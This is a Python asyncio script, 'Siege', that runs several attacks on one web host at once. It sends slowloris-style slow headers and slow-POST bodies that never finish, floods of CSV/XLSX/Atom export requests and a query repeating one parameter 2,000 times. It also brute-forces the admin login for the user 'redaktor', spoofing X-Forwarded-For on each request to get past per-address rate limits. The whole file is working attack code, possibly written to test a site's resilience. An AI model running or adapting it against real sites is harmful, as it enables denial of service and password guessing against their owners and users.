"""What is done to the site, all of it at once; every request but the slow ones comes from another address."""

import asyncio
import contextlib
import itertools
from collections import Counter
from urllib.parse import urlencode

BODIES, HEADERS, DOWNLOADS, SIGN_INS = 50, 200, 8, 30  # at once, at once, at once, a second
REPEATED = 2000  # values of one parameter
ADDRESSES = itertools.count(1)


class Siege:
    def __init__(self, host: str, port: int):
        self.host, self.port = host, port
        self.answers: Counter = Counter()  # (attack, status or what became of it)

    async def begin(self) -> list[asyncio.Task]:
        """Start all attacks; they end when they are cancelled."""
        each = [
            *(self.body_that_never_comes() for _ in range(BODIES)),
            *(self.header_by_header() for _ in range(HEADERS)),
            *(self.download(number) for number in range(DOWNLOADS)),
            self.repeat(),
            *(self.sign_in(number) for number in range(SIGN_INS)),
        ]
        return [asyncio.create_task(self.again_and_again(one)) for one in each]

    async def again_and_again(self, attack) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await attack

    async def open(self):
        return await asyncio.open_connection(self.host, self.port)

    async def body_that_never_comes(self) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await self.open()
                head = f"POST /admin/login/ HTTP/1.1\r\nHost: {self.host}\r\nX-Forwarded-For: {other()}\r\n"
                writer.write(f"{head}Content-Length: 10000\r\n\r\nna".encode())
                said = await reader.read(100)
                self.answers["unfinished bodies", said[9:12].decode() or "closed"] += 1
                writer.close()

    async def header_by_header(self) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await self.open()
                writer.write(b"GET / HTTP/1.1\r\n")
                said = asyncio.create_task(reader.read(100))
                while not said.done():
                    writer.write(b"X-Slow: 1\r\n")
                    await asyncio.wait([said], timeout=2)
                writer.close()
                self.answers["slow headers", said.result()[9:12].decode() or "closed"] += 1

    async def download(self, number: int) -> None:
        for turn in itertools.count():
            kind = ("csv", "xlsx", "atom")[turn % 3]
            asked = urlencode({"format": kind, "q": f"-x{number}y{turn}"})
            await self.ask("downloads", f"/api/v1/claims?{asked}")

    async def repeat(self) -> None:
        while True:
            await self.ask("repeated values", "/atgarder/?" + "&".join(["area=industri-40"] * REPEATED))
            await asyncio.sleep(0.1)

    async def sign_in(self, number: int) -> None:
        token = "a" * 32
        form = urlencode({"csrfmiddlewaretoken": token, "username": "redaktor", "password": f"fel{number}"})
        head = f"Cookie: csrftoken={token}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        while True:
            asked = asyncio.create_task(self.ask("sign-ins", "/admin/login/", form, head))
            await asyncio.sleep(1)
            await asked

    async def ask(self, attack: str, address: str, form: str = "", head: str = "") -> None:
        try:
            reader, writer = await self.open()
        except OSError:
            self.answers[attack, "refused"] += 1
            return await asyncio.sleep(0.2)
        method = "POST" if form else "GET"
        length = f"Content-Length: {len(form)}\r\n" if form else ""
        start = (
            f"{method} {address} HTTP/1.1\r\nHost: {self.host}\r\nX-Forwarded-For: {other()}\r\nConnection: close\r\n"
        )
        writer.write(f"{start}{head}{length}\r\n{form}".encode())
        said = await reader.read(100)
        while await reader.read(65536):
            pass
        writer.close()
        self.answers[attack, said[9:12].decode() or "closed"] += 1
        return None


def other() -> str:
    """An address that nobody has asked from before."""
    number = next(ADDRESSES)
    return f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}"
